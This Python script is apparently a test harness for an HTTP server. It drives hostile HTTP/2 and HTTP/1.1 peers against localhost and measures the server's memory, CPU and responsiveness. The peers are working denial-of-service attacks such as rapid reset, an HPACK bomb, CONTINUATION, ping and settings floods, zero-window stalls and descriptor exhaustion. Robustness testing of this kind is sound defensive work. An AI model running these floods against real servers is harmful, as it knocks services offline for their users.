#!/usr/bin/python3
"""Hostile peers for t/85-attacks_spec.lua, and the harness that measures a
server under one of them.

  attacks.py drive PORT PID MODE SECS [h2|h1]
      runs "attacks.py attack PORT MODE SECS" in a child process and, while
      it runs, a good client (a new curl request every 0.5 s, 3 s limit,
      h2c prior knowledge or HTTP/1.1) and a sampler of the server's
      /proc/PID. Prints, one per line:
        rss_before BYTES     VmRSS before the attack
        rss_peak BYTES       VmHWM after it (the server is a fresh process)
        cpu SECONDS          the server's utime+stime during the attack
        good N OK P50 MAX    good requests made, answered 200, latencies (ms)
      and the attacker's own lines ("attack ...").
  attacks.py attack PORT MODE SECS
      one attacker on 127.0.0.1:PORT for at most SECS seconds. Prints
      "attack KEY=VALUE ..." with what it sent and what came back: sent
      (frames or bytes), rst (RST_STREAMs received, by code), goaway (the
      code, or none), eof (the server closed), stalled (the server stopped
      reading).

MODEs (HTTP/2 unless named h1-):
  hpack-bomb       one 4000-byte header in the dynamic table, then requests
                   that reference it 120 times each (~140 bytes per request)
  big-headers      requests of one HEADERS and 4 CONTINUATIONs, each with a
                   15000-byte literal field (75 KB of fields per request)
  h1-big-headers   HTTP/1.1 requests with 100 KB of header fields, one per
                   connection
  h1-pipeline      pipelined HEADs on one connection, never reading a response
  h1-readall       POST /readall with Content-Length 3 GiB, body sent as fast
                   as the server takes it
  ignore-write     8 streams of GET /ignore (the handler writes 100 MiB
                   ignoring write() == false) on a connection that never
                   opens a window
  zero-window      INITIAL_WINDOW_SIZE 0, then 100 streams of GET /big (a
                   handler that writes 16 MiB, waiting for 'drain')
  settings-flood   empty SETTINGS frames as fast as possible, reading the ACKs
  ping-flood       PINGs as fast as possible, never reading the ACKs
  ping-read        PINGs as fast as possible, reading the ACKs
  empty-data       DATA frames of length 0 without END_STREAM on an open stream
  rapid-reset      HEADERS then RST_STREAM(CANCEL), new streams, back to back
  continuation     HEADERS without END_HEADERS, then CONTINUATIONs forever
  window-flood     WINDOW_UPDATE(1) on the connection, back to back
  split-headers    not an attack: HEADERS and 6 CONTINUATIONs, each frame
                   header split across two TCP segments
  priority-flood   PRIORITY frames on ever new idle streams, each depending
                   on the one before
  emfile           as many connections as the server accepts, held open for
                   SECS, then closed (the server runs out of descriptors)
"""
import os
import select
import socket
import subprocess
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONT = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(ftype, flags, sid, payload=b""):
    return (len(payload).to_bytes(3, "big") + bytes([ftype, flags]) +
            sid.to_bytes(4, "big") + payload)


def hint(n, prefix, first=0):
    """An HPACK integer with a |prefix|-bit prefix, |first| the high bits."""
    limit = (1 << prefix) - 1
    if n < limit:
        return bytes([first | n])
    out = [first | limit]
    n -= limit
    while n >= 128:
        out.append((n & 127) | 128)
        n >>= 7
    out.append(n)
    return bytes(out)


def lit(s):
    """A string literal, not Huffman-coded."""
    if isinstance(s, str):
        s = s.encode()
    return hint(len(s), 7) + s


def request_block(port, path=b"/", method=b"GET"):
    """:method, :scheme http, :path, :authority: literals without indexing
    where the static table has no exact entry."""
    out = b"\x82" if method == b"GET" else b"\x83"  # GET / POST
    out += b"\x86"                                   # :scheme http
    out += b"\x84" if path == b"/" else b"\x04" + lit(path)
    out += b"\x01" + lit("127.0.0.1:%d" % port)
    return out


class Conn:
    """A non-blocking socket that sends what it is given when the server
    takes it and parses the frame headers of what comes back."""

    def __init__(self, port, h2=True):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setblocking(False)
        self.out = bytearray()
        self.inbuf = bytearray()
        self.h2 = h2
        self.eof = False
        self.rst = {}
        self.goaway = None
        self.frames = {}
        self.received = 0
        self.head = b""  # the first bytes received
        self.last_sent = time.time()

    def queue(self, data):
        self.out += data

    def pump(self, timeout=0.05, read=True):
        """One round of select: send what the socket takes, read what
        arrived (when |read|)."""
        if self.eof:
            return
        r, w, _ = select.select([self.sock] if read else [],
                                [self.sock] if self.out else [], [], timeout)
        if w:
            try:
                n = self.sock.send(self.out[:1 << 20])
            except (BlockingIOError, InterruptedError):
                n = 0
            except OSError:
                self.eof = True
                return
            if n:
                del self.out[:n]
                self.last_sent = time.time()
        if r:
            try:
                chunk = self.sock.recv(1 << 20)
            except (BlockingIOError, InterruptedError):
                return
            except OSError:
                chunk = b""
            if not chunk:
                self.eof = True
                return
            self.received += len(chunk)
            if len(self.head) < 256:
                self.head += chunk[:256]
            if self.h2:
                self.inbuf += chunk
                self.parse()

    def parse(self):
        buf, pos = self.inbuf, 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            ftype = buf[pos + 3]
            payload = buf[pos + 9:pos + 9 + length]
            self.frames[ftype] = self.frames.get(ftype, 0) + 1
            if ftype == RST:
                code = int.from_bytes(payload[0:4], "big")
                self.rst[code] = self.rst.get(code, 0) + 1
            elif ftype == GOAWAY and self.goaway is None:
                self.goaway = int.from_bytes(payload[4:8], "big")
            pos += 9 + length
        del buf[:pos]

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def report(**kv):
    print("attack " + " ".join("%s=%s" % (k, v) for k, v in kv.items()))
    sys.stdout.flush()


def h2_report(c, sent, **extra):
    rst = ",".join("%d:%d" % kv for kv in sorted(c.rst.items())) or "none"
    report(sent=sent, rst=rst, goaway="none" if c.goaway is None else c.goaway,
           eof=int(c.eof), **extra)


def h2_open(port, settings=b""):
    c = Conn(port)
    c.queue(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0))
    return c


def flood(c, make, deadline, batch=64, backlog=1 << 18):
    """Queues make(i) frames whenever less than |backlog| bytes wait; stops
    at the deadline, a GOAWAY or the end of the connection. -> frames made."""
    n = 0
    while time.time() < deadline and not c.eof and c.goaway is None:
        if len(c.out) < backlog:
            c.queue(b"".join(make(n + i) for i in range(batch)))
            n += batch
        c.pump(0.01)
    return n


def until(c, deadline, read=True):
    while time.time() < deadline and not c.eof:
        c.pump(0.05, read)


# ---- the attacks ----

def hpack_bomb(port, deadline):
    c = h2_open(port)
    first = request_block(port) + b"\x40" + lit("x-bomb") + lit("a" * 4000)
    c.queue(frame(HEADERS, END_STREAM | END_HEADERS, 1, first))
    block = request_block(port) + b"\xbe" * 120  # dynamic index 62, 120 times
    n = flood(c, lambda i: frame(HEADERS, END_STREAM | END_HEADERS, 3 + 2 * i, block),
              deadline)
    h2_report(c, n, request_bytes=9 + len(block), headers=c.frames.get(HEADERS, 0))


def big_headers(port, deadline):
    c = h2_open(port)
    field = b"\x00" + lit("x-big") + lit("b" * 15000)  # literal, not indexed

    def make(i):
        sid = 1 + 2 * i
        f = frame(HEADERS, END_STREAM, sid, request_block(port) + field)
        for k in range(4):
            f += frame(CONT, END_HEADERS if k == 3 else 0, sid, field)
        return f
    n = flood(c, make, deadline, batch=4, backlog=1 << 20)
    h2_report(c, n, headers=c.frames.get(HEADERS, 0))


def h1_big_headers(port, deadline):
    n, statuses = 0, {}
    req = (b"GET / HTTP/1.1\r\nHost: x\r\n" +
           b"".join(b"x-big-%d: %s\r\n" % (k, b"b" * 1000) for k in range(100)) + b"\r\n")
    while time.time() < deadline:
        head = b""
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
                s.sendall(req)
                head = s.recv(64)
        except OSError:
            pass
        n += 1
        status = head[9:12].decode("latin-1") or "none"
        statuses[status] = statuses.get(status, 0) + 1
    report(sent=n, statuses=",".join("%s:%d" % kv for kv in sorted(statuses.items())))


def h1_pipeline(port, deadline):
    c = Conn(port, h2=False)
    # HEAD: each answer is a header block alone, written as a whole
    req = b"HEAD / HTTP/1.1\r\nHost: x\r\n\r\n"
    unit = req * 2048
    sent_units = 0
    while time.time() < deadline and not c.eof:
        if len(c.out) < len(unit):
            c.queue(unit)
            sent_units += 1
        c.pump(0.01, read=False)
        if time.time() - c.last_sent > 1.0:
            break
    stalled = int(time.time() - c.last_sent > 1.0)
    report(sent=(sent_units * len(unit) - len(c.out)) // len(req), stalled=stalled,
           eof=int(c.eof))


def h1_readall(port, deadline):
    c = Conn(port, h2=False)
    c.queue(b"POST /readall HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % (3 << 30))
    chunk = b"\0" * (1 << 20)
    sent = 0
    while time.time() < deadline and not c.eof:
        if len(c.out) < len(chunk):
            c.queue(chunk)
            sent += len(chunk)
        c.pump(0.01)
    resp = c.head
    status = resp[9:12].decode("latin-1") if resp.startswith(b"HTTP/1.1") else "none"
    report(sent=sent - len(c.out), status=status, eof=int(c.eof))


def ignore_write(port, deadline):
    # a window of 0 for every stream: the server can send nothing
    c = h2_open(port, (4).to_bytes(2, "big") + (0).to_bytes(4, "big"))
    for k in range(8):
        c.queue(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * k,
                      request_block(port, b"/ignore")))
    until(c, deadline)
    h2_report(c, 8)


def zero_window(port, deadline):
    c = h2_open(port, (4).to_bytes(2, "big") + (0).to_bytes(4, "big"))
    for k in range(100):
        c.queue(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * k,
                      request_block(port, b"/big")))
    until(c, deadline)
    h2_report(c, 100, headers=c.frames.get(HEADERS, 0), data=c.frames.get(DATA, 0))


def settings_flood(port, deadline):
    c = h2_open(port)
    n = flood(c, lambda i: frame(SETTINGS, 0, 0), deadline)
    h2_report(c, n, acks=c.frames.get(SETTINGS, 0))


def ping_flood(port, deadline):
    c = h2_open(port)
    ping = frame(PING, 0, 0, b"attack!!")
    n = 0
    while time.time() < deadline and not c.eof:
        if len(c.out) < 1 << 18:
            c.queue(ping * 64)
            n += 64
        c.pump(0.01, read=False)
        if time.time() - c.last_sent > 1.0:
            break
    report(sent=n - len(c.out) // len(ping), eof=int(c.eof))


def ping_read(port, deadline):
    c = h2_open(port)
    n = flood(c, lambda i: frame(PING, 0, 0, b"attack!!"), deadline)
    h2_report(c, n, acks=c.frames.get(PING, 0))


def empty_data(port, deadline):
    c = h2_open(port)
    c.queue(frame(HEADERS, END_HEADERS, 1, request_block(port, b"/hold", b"POST")))
    n = flood(c, lambda i: frame(DATA, 0, 1), deadline)
    h2_report(c, n)


def rapid_reset(port, deadline):
    c = h2_open(port)
    block = request_block(port, b"/hold")
    cancel = (8).to_bytes(4, "big")
    n = flood(c, lambda i: frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block) +
              frame(RST, 0, 1 + 2 * i, cancel), deadline)
    h2_report(c, n)


def continuation(port, deadline):
    c = h2_open(port)
    c.queue(frame(HEADERS, END_STREAM, 1, request_block(port)))
    field = b"\x00" + lit("x-c") + lit("c" * 1000)
    n = flood(c, lambda i: frame(CONT, 0, 1, field), deadline)
    h2_report(c, n)


def split_headers(port, deadline):
    """Not an attack: HEADERS and 6 CONTINUATIONs (within nghttp2's 8),
    each frame header split in two TCP segments, as a slow network may
    deliver them."""
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
    field = b"\x00" + lit("x-f") + lit("f" * 100)
    frames = [frame(HEADERS, END_STREAM, 1, request_block(port) + field)]
    for k in range(6):
        frames.append(frame(CONT, END_HEADERS if k == 5 else 0, 1, field))
    for f in frames:
        s.sendall(f[:4])
        time.sleep(0.03)
        s.sendall(f[4:])
        time.sleep(0.03)
    s.settimeout(1)
    data = b""
    try:
        while len(data) < 4096:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except socket.timeout:
        pass
    s.close()
    seen, pos, goaway = {}, 0, "none"
    while len(data) - pos >= 9:
        length, ftype = int.from_bytes(data[pos:pos + 3], "big"), data[pos + 3]
        seen[ftype] = seen.get(ftype, 0) + 1
        if ftype == GOAWAY:
            goaway = int.from_bytes(data[pos + 13:pos + 17], "big")
        pos += 9 + length
    report(headers=seen.get(HEADERS, 0), goaway=goaway)


def window_flood(port, deadline):
    c = h2_open(port)
    one = frame(WINDOW, 0, 0, (1).to_bytes(4, "big"))
    n = flood(c, lambda i: one, deadline, batch=256)
    h2_report(c, n)


def priority_flood(port, deadline):
    c = h2_open(port)
    n = flood(c, lambda i: frame(PRIORITY, 0, 3 + 2 * i,
                                 (1 + 2 * i).to_bytes(4, "big") + b"\x0f"),
              deadline, batch=256)
    h2_report(c, n)


def emfile(port, deadline):
    socks = []
    for _ in range(400):
        try:
            socks.append(socket.create_connection(("127.0.0.1", port), timeout=1))
        except OSError:
            break
        if time.time() > deadline:
            break
    report(opened=len(socks))
    while time.time() < deadline:
        time.sleep(0.05)
    for s in socks:
        s.close()
    report(closed=len(socks))


ATTACKS = {
    "hpack-bomb": hpack_bomb, "big-headers": big_headers,
    "h1-big-headers": h1_big_headers, "h1-pipeline": h1_pipeline,
    "h1-readall": h1_readall, "ignore-write": ignore_write,
    "zero-window": zero_window, "settings-flood": settings_flood,
    "ping-flood": ping_flood, "ping-read": ping_read, "empty-data": empty_data,
    "rapid-reset": rapid_reset, "continuation": continuation,
    "window-flood": window_flood, "split-headers": split_headers, "priority-flood": priority_flood,
    "emfile": emfile,
}


# ---- the harness ----

def status_kb(pid, field):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1]) * 1024
    return 0


def cpu_secs(pid):
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def drive(port, pid, mode, secs, proto):
    rss_before = status_kb(pid, "VmRSS")
    cpu0 = cpu_secs(pid)
    attacker = subprocess.Popen([sys.executable, __file__, "attack", str(port), mode, str(secs)],
                                stdout=subprocess.PIPE, text=True)
    flag = "--http2-prior-knowledge" if proto == "h2" else "--http1.1"
    url = "http://127.0.0.1:%d/" % port
    curls = []
    start = time.time()
    next_at = start + 0.25
    while ((attacker.poll() is None or time.time() - start < secs) and
           time.time() - start < secs + 15):
        if time.time() >= next_at and time.time() - start < secs:
            curls.append(subprocess.Popen(
                ["curl", "-s", "-o", "/dev/null", "-m", "3", flag, "-w", "%{http_code} %{time_total}", url],
                stdout=subprocess.PIPE, text=True))
            next_at += 0.5
        time.sleep(0.02)
    cpu = cpu_secs(pid) - cpu0
    rss_peak = status_kb(pid, "VmHWM")
    out = attacker.communicate(timeout=15)[0] if attacker.poll() is None else attacker.stdout.read()
    lat, ok = [], 0
    for p in curls:
        res = p.communicate(timeout=10)[0].split()
        code, t = (res + ["000", "3"])[:2]
        if code == "200":
            ok += 1
        lat.append(float(t) * 1000 if code == "200" else 3000.0)
    lat.sort()
    p50 = lat[len(lat) // 2] if lat else -1
    print("rss_before %d" % rss_before)
    print("rss_peak %d" % rss_peak)
    print("cpu %.3f" % cpu)
    print("good %d %d %.1f %.1f" % (len(lat), ok, p50, lat[-1] if lat else -1))
    sys.stdout.write(out)
    sys.stdout.flush()


def main():
    if sys.argv[1] == "drive":
        drive(int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], float(sys.argv[5]),
              sys.argv[6] if len(sys.argv) > 6 else "h2")
    else:
        port, mode, secs = int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
        ATTACKS[mode](port, time.time() + secs)


if __name__ == "__main__":
    main()
